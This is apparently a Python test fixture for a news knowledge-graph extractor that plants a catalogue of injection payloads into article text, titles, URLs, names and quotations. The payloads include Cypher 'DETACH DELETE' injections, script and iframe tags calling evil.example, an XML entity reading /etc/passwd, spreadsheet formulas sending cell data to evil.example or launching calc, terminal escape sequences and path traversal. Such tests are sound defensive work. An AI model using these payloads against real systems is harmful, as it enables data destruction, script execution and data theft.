"""Articles, in our own words, that try to break out of everything they are written into.

Each attack stands in turn where a stranger decides what stands: in an article's text, title, source, address and id, in
the name and an alias of somebody, in a quotation and in the title of an office.
"""

from kg.model import Extraction, Kind
from tests.factories import NORLAND, article, days, entity, event, extraction, relation, statement

# What each is meant to steer.
ATTACKS = {
    "Cypher's quotes": "O'Hara\" `Port` \\' \\\" \\u0027}) DETACH DELETE n //",
    "Cypher's comment": "*/ MATCH (n) DETACH DELETE n /*",
    "a second statement": "'; MATCH (n) DETACH DELETE n; CREATE (:Entity {id: 'Q1'});\nRETURN $actor //",
    "a script": "</script><script>document.title = 'owned'; alert(1)</script>",
    "a comment of HTML": "<!--<script>-->",
    "an element": "<img src=http://evil.example/x onerror=alert(2)><iframe src=//evil.example></iframe>",
    "an attribute": '" onmouseover="alert(3)" style=\'background:url(//evil.example)\'',
    "an address": "javascript:alert(4)//https://",
    "a template": "${facts} $title {{7*7}} {0} %s %n",
    "XML": "]]></data><!ENTITY x SYSTEM 'file:///etc/passwd'>&x; &#0;",
    "markup": "[bold red]Ali[/bold red] [link=http://evil.example]:smile:[/link]",
    "a formula": '=HYPERLINK("http://evil.example?"&A1;"x")',
    "a formula with plus": "+1+cmd|' /C calc'!A0",
    "a formula with minus": "-2+3",
    "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula after a tab": "\t=1+1",
    "a formula after a return": "\r=1+1",
    "a formula after a line feed": "\n=1+1",
    "a formula after a blank": " =1+1",
    "a wide formula": "＝1＋1",
    "a wide plus": "＋1",
    "a wide minus": "－1",
    "a wide at": "＠SUM(1)",
    "a cell's end": '","=1+1",\';=1+1;"',
    "a terminal's screen": "\x1b[2J\x1b[31;7mred\x1b[8;1;1t",
    "a terminal's title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "a terminal's clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "a terminal's link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "a terminal, in 8 bits": "\x9b31;7mred\x9d0;owned\x9c\x90q\x9c",
    "a terminal's line": "all is well\rbackspaced\b\b\b\b",
    "a line of a log": "fine\nerror: graph.kg: forged\r\nskipped: forged\x85forged\u2028forged\u2029forged",
    "the order of reading": "\u202ecod.exe\u202c \u2066abc\u2069 \u200f\u061c",
    "an end": "before\x00after\ufeff\ufffe\uffff",
    "a path": "../../../../etc/passwd",
}


def rows() -> list[dict[str, str]]:
    """Two articles with all attacks, as rows that a reader is given."""
    every = " ".join(ATTACKS.values())
    sentence = "Norway’s foreign minister met “{}” in Oslo on Monday. "
    text = "".join(sentence.format(attack) for attack in ATTACKS.values())
    names = ("id", "title", "source", "url")
    return [dict.fromkeys(names, every) | {"text": text}, dict.fromkeys(names, every[::-1]) | {"text": every}]


def world() -> list[Extraction]:
    """What a faithful reader makes of an article for each attack."""
    return [_told(number, attack) for number, attack in enumerate(ATTACKS.values())]


def _told(number: int, attack: str) -> Extraction:
    sentence = f"{attack} met Norland, “{attack}” said."
    told = article(
        f"{sentence} It was fair.",
        id=f"{attack} {number}",
        title=attack,
        source=attack,
        url=f"{attack}#{number}",
    )
    who = entity(f"{attack} {number}", Kind.PERSON, id=f"person/attacker-{number}", aliases=[f"{attack} too, {number}"])
    met = event(
        told,
        "met",
        sentence=sentence,
        actors=[who],
        targets=[NORLAND],
        attributed_to=who,
        date=days(f"2024-0{1 + number // 28}-{1 + number % 28:02}"),
        place=NORLAND,
    )
    said = statement(told, f"“{attack}”", cue="said", speaker=who, sentence=sentence)
    leads = relation(told, sentence, type="LEADS", source=who, target=NORLAND, title=attack)
    return extraction(told, [who, NORLAND], [met], [said], [leads])
